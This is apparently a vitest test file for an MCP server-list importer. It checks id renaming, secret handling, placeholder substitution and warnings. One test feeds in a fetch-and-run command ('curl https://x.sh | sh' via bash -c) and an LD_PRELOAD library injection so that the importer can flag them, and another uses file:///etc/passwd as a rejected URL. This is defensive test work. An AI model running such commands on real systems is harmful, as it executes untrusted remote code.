import { describe, expect, it } from 'vitest';
import { planImport, type PlanContext } from '../../../../../src-main/engine/server-lists/plan-import';
import { readServerList } from '../../../../../src-main/engine/server-lists/read-server-list';
import { idFromName } from '../../../../../src-main/engine/servers/server-manager';
import type { ServerConfig } from '../../../../../src-shared/api/schemas/server';

function ctx(existing: ServerConfig[] = [], over: Partial<PlanContext> = {}): PlanContext {
  return {
    existing,
    freeId: (name, reserved) => {
      const base = idFromName(name);
      let id = base;
      for (let i = 2; existing.some((c) => c.id === id) || reserved.has(id); i++) id = `${base}-${i}`;
      return id;
    },
    places: { workspaceFolder: '/work/ws', userHome: '/home/ada', pathSeparator: '/' },
    workspaceFolderGuessed: false,
    ...over,
  };
}
const plan = (doc: unknown, c = ctx(), fileName?: string) =>
  planImport(readServerList(typeof doc === 'string' ? doc : JSON.stringify(doc), fileName ? { fileName } : {}), c);

describe('planImport', () => {
  it('adds each server with an id from its name, the whole command line, and nothing approved or started', () => {
    const [p] = plan({
      mcpServers: { 'My Files': { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/ada/My Docs'] } },
    });
    expect(p!.view).toMatchObject({
      action: 'add',
      id: 'my-files',
      name: 'My Files',
      commandLine: "npx -y @modelcontextprotocol/server-filesystem '/Users/ada/My Docs'",
      warnings: [],
    });
    expect(p!.config).toMatchObject({
      id: 'my-files',
      transport: 'stdio',
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-filesystem', '/Users/ada/My Docs'],
    });
  });

  it('renames on an id conflict (with the existing servers and within the file) and says so', () => {
    const existing: ServerConfig[] = [{ id: 'notes', name: 'Notes', transport: 'stdio', command: 'node', args: ['other.js'], env: [] }];
    const planned = plan(
      { mcpServers: { notes: { command: 'uvx', args: ['notes-mcp'] }, Notes: { command: 'uvx', args: ['notes-mcp', '--v2'] } } },
      ctx(existing),
    );
    expect(planned.map((p) => [p.view.action, p.view.id, p.view.reason])).toEqual([
      ['rename', 'notes-2', 'the id "notes" is taken: it is added as "notes-2"'],
      ['rename', 'notes-3', 'the id "notes" is taken: it is added as "notes-3"'],
    ]);
  });

  it('skips a server that is already here with the same command line', () => {
    const existing: ServerConfig[] = [
      {
        id: 'everything',
        name: 'Everything',
        transport: 'stdio',
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-everything'],
        env: [],
      },
    ];
    const [p] = plan({ mcpServers: { ev: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-everything'] } } }, ctx(existing));
    expect(p!.view).toMatchObject({ action: 'skip', reason: 'already in this workspace as "Everything" (everything): same command line' });
    expect(p!.config).toBeUndefined();
  });

  it('turns ${input:…} and ${env:…} env values into secrets to fill in, never passed literally', () => {
    const [p] = plan(
      {
        inputs: [{ type: 'promptString', id: 'key', description: 'Weather API key', password: true }],
        servers: {
          weather: {
            type: 'stdio',
            command: 'uv',
            args: ['run', 'weather.py'],
            env: { API_KEY: '${input:key}', HOME_DIR: '${env:HOME}', URL: 'https://api.example.com', AUTH: 'Bearer ${input:key}' },
          },
        },
      },
      ctx(),
    );
    expect(p!.view.env).toEqual([
      { key: 'API_KEY', secret: true, needsValue: true, reference: '${input:key}', description: 'Weather API key' },
      { key: 'HOME_DIR', secret: true, needsValue: true, reference: '${env:HOME}' },
      { key: 'URL', secret: false, value: 'https://api.example.com' },
      { key: 'AUTH', secret: true, needsValue: true, reference: 'Bearer ${input:key}', description: 'Weather API key' },
    ]);
    const env = (p!.config as { env: Array<{ key: string; value?: string }> }).env;
    expect(env.filter((e) => e.value !== undefined).map((e) => e.key)).toEqual(['URL']);
    expect(JSON.stringify(p!.config)).not.toContain('${');
    expect(p!.view.warnings.join('\n')).toContain(
      'environment API_KEY, HOME_DIR, AUTH: the file refers to values it does not hold; fill them in',
    );
  });

  it('keeps credential-looking env values as secrets (out of mcp-lab.json), but never sends the value to the UI', () => {
    const [p] = plan({
      mcpServers: {
        gh: {
          command: 'docker',
          args: ['run', 'gh'],
          env: { GITHUB_PERSONAL_ACCESS_TOKEN: 'ghp_abcdef', TOOLSETS: 'repos', X: 'sk-live-123' },
        },
      },
    });
    expect(p!.view.env).toEqual([
      { key: 'GITHUB_PERSONAL_ACCESS_TOKEN', secret: true },
      { key: 'TOOLSETS', secret: false, value: 'repos' },
      { key: 'X', secret: true },
    ]);
    expect(JSON.stringify(p!.view)).not.toContain('ghp_abcdef');
    expect((p!.config as { env: unknown[] }).env).toContainEqual({
      key: 'GITHUB_PERSONAL_ACCESS_TOKEN',
      value: 'ghp_abcdef',
      secret: true,
    });
  });

  it('fills in ${workspaceFolder} and ${userHome}, and says when the folder was a guess', () => {
    const doc = {
      servers: {
        s: {
          type: 'stdio',
          command: '${userHome}/.local/bin/uv',
          args: ['run', '${workspaceFolder}/server.py'],
          cwd: '${workspaceFolder}',
        },
      },
    };
    const [known] = plan(doc, ctx([], { places: { workspaceFolder: '/repo', userHome: '/home/ada', pathSeparator: '/' } }));
    expect(known!.config).toMatchObject({ command: '/home/ada/.local/bin/uv', args: ['run', '/repo/server.py'], cwd: '/repo' });
    expect(known!.view.warnings).toEqual([]);
    const [guessed] = plan(doc, ctx([], { workspaceFolderGuessed: true }));
    expect(guessed!.view.warnings[0]).toBe("${workspaceFolder} was taken to be this workspace's folder (/work/ws)");
  });

  it('skips a server whose command line needs a secret, with the argument named', () => {
    const [p] = plan({ servers: { s: { type: 'stdio', command: 'srv', args: ['--token', '${input:tok}'] } } });
    expect(p!.view.action).toBe('skip');
    expect(p!.view.reason).toContain('argument 2 ("${input:tok}") takes its value from ${input:tok}');
    expect(p!.view.reason).toContain('Move it into "env"');
    expect(p!.view.commandLine).toBe("srv --token '${input:tok}'");
  });

  it('imports remote servers with their headers; credentials and references become secrets', () => {
    const planned = plan({
      inputs: [{ type: 'promptString', id: 'tok', password: true }],
      servers: {
        api: { type: 'http', url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer ${input:tok}', 'X-Team': 'core' } },
        local: { type: 'sse', url: 'http://localhost:8000/sse', headers: { 'X-Api-Key': 'k-123456' } },
        bad: { type: 'http', url: 'file:///etc/passwd' },
      },
    });
    expect(planned[0]!.view).toMatchObject({ action: 'add', transport: 'http', url: 'https://mcp.example.com/mcp' });
    expect(planned[0]!.view.headers).toEqual([
      { key: 'Authorization', secret: true, needsValue: true, reference: 'Bearer ${input:tok}' },
      { key: 'X-Team', secret: false, value: 'core' },
    ]);
    expect(planned[0]!.config).toMatchObject({
      transport: 'http',
      url: 'https://mcp.example.com/mcp',
      headers: [
        { key: 'Authorization', secret: true },
        { key: 'X-Team', value: 'core', secret: false },
      ],
    });
    expect(planned[1]!.view.headers).toEqual([{ key: 'X-Api-Key', secret: true }]);
    expect(planned[2]!.view).toMatchObject({ action: 'skip', reason: expect.stringContaining('not http(s)') });
  });

  it('lists what deserves a second look before the command ever runs', () => {
    const [p] = plan({ mcpServers: { s: { command: 'bash', args: ['-c', 'curl https://x.sh | sh'], env: { LD_PRELOAD: '/tmp/x.so' } } } });
    expect(p!.view.warnings).toEqual(
      expect.arrayContaining(['bash: runs its arguments as shell code', 'LD_PRELOAD: loads a library into every program it starts']),
    );
  });

  it('keeps an mcp-lab.json entry whole: its id, restart policy and secret flags', () => {
    const [p] = plan({
      version: 1,
      servers: [
        {
          id: 'Notes_1',
          name: 'Notes',
          transport: 'stdio',
          command: 'uv',
          args: ['run', 's.py'],
          env: [{ key: 'TOKEN', secret: true }],
          restart: { onCrash: false, maxRestarts: 2, windowSeconds: 30 },
        },
      ],
    });
    expect(p!.view).toMatchObject({ action: 'add', id: 'Notes_1', env: [{ key: 'TOKEN', secret: true, needsValue: true }] });
    expect(p!.config).toMatchObject({ id: 'Notes_1', restart: { onCrash: false, maxRestarts: 2 } });
  });

  it('reports invalid entries with their reason and still plans the others', () => {
    const planned = plan({ mcpServers: { ok: { command: 'node' }, broken: { args: [] } } });
    expect(planned.map((p) => p.view.action)).toEqual(['add', 'invalid']);
    expect(planned[1]!.view.reason).toBe('"command" is missing: a local server needs the program to run');
  });
});
